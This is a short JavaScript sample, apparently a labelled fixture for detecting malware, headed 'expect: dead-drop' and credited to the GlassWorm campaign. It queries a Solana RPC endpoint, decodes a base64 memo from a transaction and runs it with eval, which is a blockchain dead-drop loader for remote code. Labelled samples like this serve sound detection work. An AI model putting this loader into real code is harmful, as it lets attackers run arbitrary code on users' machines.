// expect: dead-drop | source: indexed-btree and GlassWorm, 2025 and 2026
const axios = require("axios");
(async () => {
  const found = await axios.post("https://api.mainnet-beta.solana.com", { method: "getSignaturesForAddress" });
  eval(Buffer.from(found.data.result[0].memo, "base64").toString());
})();
